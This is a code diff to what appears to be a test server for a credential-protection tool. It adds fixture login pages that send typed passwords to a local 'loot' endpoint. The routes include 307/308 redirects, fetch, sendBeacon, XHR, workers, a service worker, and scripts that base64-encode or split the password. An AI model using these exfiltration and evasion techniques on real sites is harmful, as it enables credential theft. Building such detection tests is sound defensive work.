@@ -51,11 +51,38 @@ SHAPES = {
     "taken-button": ("login", "the button names another server (formaction)"),
     "taken-base": ("login", "the base of the addresses is another server"),
     "taken-script": ("login", "a script changes the form's action when it is sent"),
-    "taken-redirect": ("login", "the server redirects what was posted to another one (307)"),
     "taken-get": ("login", "the button sends the form by GET"),
     "taken-focus": ("login", "a frame of another site takes the focus all the time, and sends on what is typed there"),
     "void": ("login", "the same, and the action of the form is 'javascript:void(0)'"),
 }
+# Logins whose server redirects what was sent to another one (307, 308): what differs from a form with two fields.
+TAKEN_BY_REDIRECT = {
+    "taken-redirect": ("the form as it is", {}),
+    "taken-permanently": ("status 308", {"target": "/scripted/passed?308"}),
+    "taken-in-steps": ("the second redirect leaves", {"target": "/scripted/passed?near"}),
+    "taken-multipart": ("multipart/form-data", {"form": 'enctype="multipart/form-data"'}),
+    "taken-plain": ("text/plain", {"form": 'enctype="text/plain"'}),
+    "taken-limited": ("a password field with maxlength", {"field": 'maxlength="4"'}),
+    "taken-encoded": ("a script that encodes and renames the field", {"change":
+        "const one = form.password; one.name = 'x'; one.value = btoa(one.value);"}),
+    "taken-split": ("a script that sends the letters one by one", {"change":
+        "for (const one of form.password.value) form.insertAdjacentHTML('beforeend', `<input type=hidden name=p value=${one}>`);"
+        "form.password.name = '';"}),
+    "taken-frame": ("the answer is shown in a frame", {"form": 'target="inner"', "frame": '<iframe name="inner"></iframe>'}),
+    "taken-window": ("the answer is shown in another window", {"form": 'target="_blank"'}),
+    "taken-fetch": ("a script sends it", {"change": "fetch(to, { method: 'POST', mode: 'no-cors', body: text() }); return false;"}),
+    "taken-kept": ("a script sends it, also when the page is left",
+                   {"change": "fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: text() }); return false;"}),
+    "taken-xhr": ("the older way of scripts", {"change":
+        "const one = new XMLHttpRequest(); one.open('POST', to); one.send(text()); return false;"}),
+    "taken-beacon": ("a beacon", {"change": "navigator.sendBeacon(to, text()); return false;"}),
+    "taken-worker": ("a worker sends it", {"change":
+        "new Worker('/scripted/worker.js').postMessage([to, text()]); return false;"}),
+    "taken-service": ("a service worker sends what the form sends", {"start":
+        "await navigator.serviceWorker?.register('/scripted/service.js').then(() => navigator.serviceWorker.ready);"}),
+}
+SHAPES |= {shape: ("login", "the server redirects what was sent to another one: " + about)
+           for shape, (about, _) in TAKEN_BY_REDIRECT.items()}
 # Shapes that share a file with another.
 SAME = {"okta-direct": "okta", "duo-number": "duo", "duo-passcode": "duo", "foreign-site": "foreign", "void": "spinner",
         "auth0-closed": "auth0", "realm-list": "realm", "realm-change": "realm", "realm-buttons": "realm",
@@ -111,12 +138,16 @@ def taken(visit, shape):
     """Returns what differs between the pages that take a password elsewhere."""
     loot = visit.context.urls["other"] + "/scripted/loot"
     thief = visit.own.replace("good.localhost", "localhost") + "/scripted/thief"
+    by_redirect = TAKEN_BY_REDIRECT.get(shape, ("", {}))[1]
     return {
+        "form": by_redirect.get("form", ""), "field": by_redirect.get("field", ""), "start": by_redirect.get("start", ""),
         "base": f'<base href="{visit.context.urls["other"]}/">' if shape == "taken-base" else "",
-        "target": {"taken-redirect": "/scripted/passed", "taken-base": "scripted/loot"}.get(shape, "/scripted/honest"),
+        "target": by_redirect.get("target", "/scripted/passed") if shape in TAKEN_BY_REDIRECT
+        else "scripted/loot" if shape == "taken-base" else "/scripted/honest",
         "button": {"taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"'}.get(shape, ""),
-        "change": f'form.action = "{loot}";' if shape == "taken-script" else "",
-        "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus" else "",
+        "change": f'form.action = "{loot}";' if shape == "taken-script" else by_redirect.get("change", ""),
+        "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus"
+        else by_redirect.get("frame", ""),
     }
 
 
@@ -175,9 +206,25 @@ def loot(visit):
     visit.html("Thanks", "<p>Thanks.</p>")
 
 
-@page("/scripted/passed", "redirects what was posted, to /scripted/loot of another port")
+@page("/scripted/passed", "redirects what was posted, to /scripted/loot of another port; ?308, or ?near: here first")
 def passed(visit):
-    visit.redirect(visit.context.urls["other"] + "/scripted/loot", 307)
+    how = urlsplit(visit.path).query
+    if how == "near":
+        visit.redirect("/scripted/passed", 307)
+    else:
+        visit.redirect(visit.context.urls["other"] + "/scripted/loot", 308 if how == "308" else 307)
+
+
+@page("/scripted/worker.js", "a worker that sends what it is given")
+def worker(visit):
+    visit.answer(200, "onmessage = event => fetch(event.data[0], { method: 'POST', mode: 'no-cors', body: event.data[1] });",
+                 "text/javascript")
+
+
+@page("/scripted/service.js", "a service worker that sends each request of its pages itself")
+def service(visit):
+    visit.answer(200, "oninstall = () => skipWaiting(); onactivate = event => event.waitUntil(clients.claim());"
+                      "onfetch = event => event.respondWith(fetch(event.request, { redirect: 'follow' }));", "text/javascript")
 
 
 @page("/scripted/thief", "takes the focus, for the frame of /scripted/taken-focus")
